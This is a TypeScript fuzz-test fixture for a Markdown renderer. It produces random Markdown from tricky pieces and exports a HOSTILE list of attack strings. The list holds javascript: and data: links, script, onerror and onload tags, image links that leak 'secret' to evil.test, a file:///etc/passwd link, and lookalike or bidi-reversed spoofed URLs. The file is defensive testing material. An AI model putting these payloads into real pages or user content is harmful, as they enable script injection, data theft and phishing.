/** Markdown for tests: made of the pieces that readers of Markdown get wrong, and of what attacks are made of. */
import type { Random } from '../../bench/fuzz/random.ts';

/** Markdown of random pieces; the same for the same numbers. */
export function randomMarkdown(random: Random): string {
  const length = 1 + random.below(30);
  return Array.from({ length }, () => PIECES[random.below(PIECES.length)]).join('');
}

/** Cuts a text at random places, also inside of a character. */
export function randomPieces(text: string, random: Random): string[] {
  const pieces: string[] = [];
  for (let at = 0; at < text.length; ) {
    const size = 1 + random.below(6);
    pieces.push(text.slice(at, at + size));
    at += size;
  }
  return pieces;
}

const PIECES = [
  ...[
    'word',
    'alpha beta',
    'naïve',
    'مرحبا',
    '日本',
    '👩‍💻',
    '\u202eevil',
    'a_b_c',
    '$HOME',
    'C:\\tmp',
    'x',
    '7',
  ],
  ...[
    ' ',
    ' ',
    '\n',
    '\n',
    '\n\n',
    '\n\n',
    '  ',
    '\t',
    '\r\n',
    '    ',
    '<br>',
    '<',
    '>',
    '&amp;',
    '|',
  ],
  ...[
    '*',
    '**',
    '***',
    '_',
    '__',
    '~~',
    '~',
    '`',
    '``',
    '```',
    '\n```\n',
    '\n```js\n',
    '\\',
    '$',
    '$$',
    '\\(',
    '\\[',
  ],
  ...[
    '[',
    ']',
    '(',
    ')',
    '](',
    '![',
    '!',
    '[text](https://a.test/x_(y))',
    '[go](javascript:alert(1))',
  ],
  ...[
    '![pic](https://a.test/p.png)',
    'https://a.test/a_b',
    'http://b.test.',
    '(https://c.test)',
    'https',
  ],
  ...[
    '\n# ',
    '\n### ',
    '\n- ',
    '\n  - ',
    '\n* ',
    '\n+ ',
    '\n1. ',
    '\n12. ',
    '\n> ',
    '\n>> ',
    '\n---\n',
    '\n- [ ] ',
    '\n- [x] ',
  ],
  ...['\n| a | b |\n|---|---|\n', '\n| c | d |', '\n    code', ': ', '. ', ', ', '"quoted"'],
];

/** What must do no harm, whatever becomes of it. */
export const HOSTILE = [
  '[a](javascript:alert(document.domain))',
  '[a](JaVaScRiPt:alert(1)) [b](java\tscript:alert(1)) [c](&#106;avascript:alert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[a](vbscript:msgbox(1)) [b](file:///etc/passwd) [c](//evil.test/x)',
  '![a](https://evil.test/?q=secret) ![b](//evil.test/b.png) ![c](javascript:alert(1))',
  '![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  '<script>alert(1)</script>\n\n<script src="https://evil.test/x.js"></script>',
  '<img src="https://evil.test/x.png" onerror="alert(1)">\n<svg onload=alert(1)>',
  '<iframe src="https://evil.test"></iframe><style>@import "https://evil.test/x.css"</style>',
  '<a href="javascript:alert(1)">x</a> <base href="https://evil.test"> <form action="//evil.test">',
  '```"><script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```',
  '[https://apple.com](https://аpple.com) [paypal.com](https://evil.test) https://аpple.com',
  '[google.com\u202emoc.live](https://evil.test) \u202egnp.exe \u2066\u2067',
  '[x](https://evil.test" onmouseover="alert(1)) [y](<https://evil.test> "t\\" onclick=alert(1)")',
  '[a]: javascript:alert(1)\n[link][a] [![x](https://evil.test/1.png)](javascript:alert(2))',
  '| <script>alert(1)</script> | [x](javascript:1) |\n|---|---|\n| ![i](https://evil.test/i) | y |',
];
